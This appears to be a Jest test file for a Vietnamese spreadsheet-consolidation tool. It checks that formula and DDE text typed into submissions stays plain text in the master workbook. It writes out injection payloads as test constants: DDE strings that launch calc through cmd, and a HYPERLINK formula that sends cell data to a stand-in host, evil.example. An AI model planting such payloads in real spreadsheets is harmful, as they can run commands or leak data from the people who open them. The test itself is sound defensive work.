/**
 * Formula and DDE text typed into submissions ("=cmd|' /C calc'!A0", "@SUM(…)", "=HYPERLINK(…)")
 * reaches the master only as text: the formulas in the master written by `xeploai consolidate` are
 * the product's own (tallies, the final-level fallback), none carries submitted text, and the typed
 * text appears as plain strings.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { requireTemplate } from "../../src/core/templates/catalog";
import { miniXlsx, type MiniCell } from "./ooxml";
import { yTeSheet, yTeValue } from "./fixtures";

jest.setTimeout(20_000);

const DDE = "=cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"bấm")';

/** 3.15 (leaders) made by hand: header row, then leaders whose names are formula text. */
function leadersFile(): Uint8Array {
  const spec = requireTemplate("lanh-dao");
  const keys = spec.columns.map((c) => c.key);
  const people: Record<string, MiniCell>[] = [
    { ten: DDE, unitCode: "Đảng bộ phường Phú Bài", ghiChu: LINK },
    { ten: AT, unitCode: "Đảng bộ phường Thủy Châu", ghiChu: "+1+cmd|'/C calc'!A0" },
  ];
  const rows: MiniCell[][] = [
    spec.columns.map((c) => c.header.vi),
    ...people.map((p, i) =>
      keys.map((k): MiniCell => {
        if (k in p) return p[k]!;
        if (k === "stt") return i + 1;
        if (k === "chucVu") return "Bí thư Đảng ủy";
        if (k === "tuXepLoai" || k === "xepLoaiCbccvc") return "Hoàn thành tốt nhiệm vụ";
        return null;
      })
    ),
  ];
  return miniXlsx({ sheets: [{ name: spec.sheetName, rows }] });
}

test("no submitted text becomes a formula in the master; formula text stays text", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "xeploai-inject-"));
  const yTe = yTeSheet({
    value: (k, i, n, c) => {
      if (k === "ghiChu" && i === 0) return DDE;
      if (k === "ghiChu" && i === 1)
        return { formula: "cmd|' /C calc'!A0", cached: "x", type: "str" };
      return yTeValue(k, i, n, c);
    },
  });
  writeFileSync(path.join(dir, "y-te.xlsx"), miniXlsx({ sheets: [yTe] }));
  writeFileSync(path.join(dir, "lanh-dao.xlsx"), leadersFile());
  const master = path.join(dir, "master.xlsx");
  const r = spawnSync(
    process.execPath,
    [
      path.join(__dirname, "../../bin/xeploai.cjs"),
      "consolidate",
      path.join(dir, "y-te.xlsx"),
      path.join(dir, "lanh-dao.xlsx"),
      "--master",
      master,
      "--now",
      "2019-12-30T00:00:00Z",
    ],
    { encoding: "utf8", timeout: 18_000 }
  );
  expect(r.stderr).toBe("");
  expect(r.status).toBe(0);

  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(master) as never);
  const formulas: string[] = [];
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (v && typeof v === "object" && ("formula" in v || "sharedFormula" in v))
          formulas.push(
            `${ws.name}!${cell.address}: ${"formula" in v ? v.formula : v.sharedFormula}`
          );
        if (typeof v === "string") texts.push(v);
      })
    )
  );
  const injected = formulas.filter((f) => /cmd|HYPERLINK|evil|SUM\(1\+1\)|calc/i.test(f));
  expect(injected).toEqual([]);
  // The leaders' names came through, as text.
  expect(texts).toContain(DDE);
  expect(texts).toContain(AT);
});
